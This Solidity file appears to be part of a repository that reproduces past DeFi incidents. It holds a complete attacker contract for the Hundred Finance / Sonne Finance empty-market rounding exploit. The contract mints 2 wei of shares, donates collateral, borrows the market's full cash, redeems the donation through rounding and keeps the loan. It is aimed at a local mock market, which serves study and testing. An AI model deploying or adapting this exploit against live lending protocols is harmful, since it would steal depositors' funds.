// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {RoundingEmptyMarket} from "../incidents/RoundingEmptyMarket.sol";

/// @title RoundingEmptyMarketAttacker
/// @notice Hundred Finance / Sonne Finance: mint 2 wei of shares in the empty
/// market, donate, borrow all the USDx, redeem the donation back with the
/// rounded-down share burn, keep the loan.
contract RoundingEmptyMarketAttacker {
    address public immutable owner;
    RoundingEmptyMarket public immutable market;
    IERC20 public immutable underlying;
    IERC20 public immutable usd;

    error NotOwner();

    constructor(RoundingEmptyMarket market_, IERC20 underlying_, IERC20 usd_) {
        owner = msg.sender;
        market = market_;
        underlying = underlying_;
        usd = usd_;
    }

    /// @notice The whole exploit, funded by the collateral this contract holds.
    function attack() external {
        if (msg.sender != owner) revert NotOwner();
        uint256 donation = underlying.balanceOf(address(this)) - 2;
        underlying.approve(address(market), 2);
        market.mint(2);
        underlying.transfer(address(market), donation);
        // Each of the two shares is now worth half the cash; the liquidity
        // check of the redeem below keeps one of them.
        uint256 half = market.getCash() / 2 * market.price() / 1e18 * market.CF_BPS() / 10_000;
        uint256 cash = usd.balanceOf(address(market));
        market.borrow(half < cash ? half : cash);
        market.redeemUnderlying(market.getCash() - 1);
        usd.transfer(owner, usd.balanceOf(address(this)));
        underlying.transfer(owner, underlying.balanceOf(address(this)));
    }
}
